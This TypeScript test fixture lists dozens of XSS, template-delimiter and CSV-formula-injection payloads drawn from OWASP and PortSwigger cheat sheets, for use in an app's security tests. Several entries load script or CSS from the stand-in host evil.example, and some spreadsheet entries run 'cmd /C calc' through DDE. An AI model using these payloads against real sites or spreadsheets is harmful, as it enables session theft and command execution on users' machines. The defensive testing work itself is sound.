/**
 * Script-injection payloads, after the OWASP XSS Filter Evasion Cheat Sheet
 * and PortSwigger's XSS cheat sheet, plus template delimiters and CSV
 * formula injection (OWASP "CSV Injection"). Each is placed in every
 * user-controlled field by xss.test.ts. None starts or ends with white space,
 * because the app trims labels.
 */
export const XSS_PAYLOADS: string[] = [
  // Script elements.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<script type="module">import("//evil.example")</script>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<div onmouseover="alert(1)">hover</div>',
  '<marquee onstart=alert(1)>x</marquee>',
  // Attribute breakouts.
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '"/><svg onload=alert(1)>',
  '` onmouseover=alert(1) `',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  // javascript: and other dangerous URLs.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.cookie)',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  // SVG and MathML.
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">click</math>',
  // Encoded variants.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  // Template delimiters (EJS and others).
  '<%= 7*7 %>',
  '<%- "<script>alert(1)</script>" %>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  // CSS.
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  // Spreadsheet formulas.
  '=HYPERLINK("http://evil.example","click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1\r\n=2+2',
];
